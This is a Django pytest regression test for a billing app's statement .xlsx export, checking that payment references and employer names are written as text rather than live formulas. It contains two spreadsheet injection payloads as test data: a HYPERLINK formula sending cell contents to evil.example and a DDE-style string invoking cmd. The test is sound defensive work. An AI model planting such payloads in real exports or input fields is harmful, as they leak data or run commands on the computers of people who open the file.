"""The statement .xlsx writes what payers and officers typed as text, never as a formula."""

from datetime import date
from decimal import Decimal

import pytest
from django.test import Client

from payung.billing.services import record_payment
from payung.core.tests.xlsx_cells import formulas, shared_strings
from payung.employers.models import Employer

pytestmark = pytest.mark.django_db

HOSTILE_REFERENCE = '=HYPERLINK("http://evil.example/?d="&A1,"Lihat bukti bayar")'


def test_a_payment_reference_formula_stays_text_in_the_statement_xlsx(user_named):
    """Finding 6: a reference `=HYPERLINK(...)` was a live formula in the downloaded statement."""
    employer = Employer.objects.get(npp="74110001")
    record_payment(
        employer=employer,
        amount=Decimal(1000),
        paid_on=date(2019, 1, 20),
        reference=HOSTILE_REFERENCE,
        actor=user_named("cabang"),
    )
    Employer.objects.filter(pk=employer.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    client = Client()
    client.force_login(user_named("cabang"))
    response = client.get(f"/tagihan/pemberi-kerja/{employer.pk}/rekening.xlsx?on=2019-03-01")
    assert response.status_code == 200
    assert formulas(response.content) == []
    texts = shared_strings(response.content)
    assert HOSTILE_REFERENCE in texts
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in texts
